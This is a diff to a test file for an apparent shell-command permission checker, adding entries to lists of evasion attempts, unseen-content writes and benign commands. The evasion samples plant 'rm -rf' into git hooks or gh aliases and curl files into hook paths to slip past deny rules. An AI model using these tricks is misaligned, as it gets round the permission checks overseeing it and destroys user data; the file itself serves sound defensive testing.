@@ -42,6 +42,7 @@ DODGES = [
     "echo ok; echo 'rm y' > sub/.git/hooks/pre-commit",
     "gh alias import - <<EOF\nx: '!rm -rf y'\nEOF",
     "gh alias import - <<< 'p: \"!rm y\"'",
+    "echo 'rm -rf y' > /tmp/h/pre-commit",  # git config core.hooksPath /tmp/h, later
 ]
 # the content is not on the line: not provable (denied where a Bash deny exists, else ask)
 UNSEEN = [
@@ -63,6 +64,7 @@ UNSEEN = [
     "x=$(cp h .git/hooks/pre-commit)",
     "gh alias import aliases.yml", "gh alias import a.yml <<EOF\nx: ls\nEOF",
     "curl -s https://x/a.yml | gh alias import -",
+    "cp x /tmp/h/post-checkout", "curl -o hooks/commit-msg https://x",
 ]
 # writes of content on the line that names nothing denied, and reads: as before
 HONEST = [
@@ -74,6 +76,8 @@ HONEST = [
     "git status > /tmp/out.txt", "echo x >> notes.txt", "grep -r x .git/hooks",
     "git commit -m 'hooks: clean up'", "echo hi > .git/COMMIT_EDITMSG",
     "gh alias import - <<EOF\nco: pr checkout\nEOF", "gh alias list", "gh pr view 1",
+    "echo 'npm test' > /tmp/h/pre-push", "pre-commit run --all-files",
+    "echo x > .pre-commit-config.yaml",
 ]
 
 
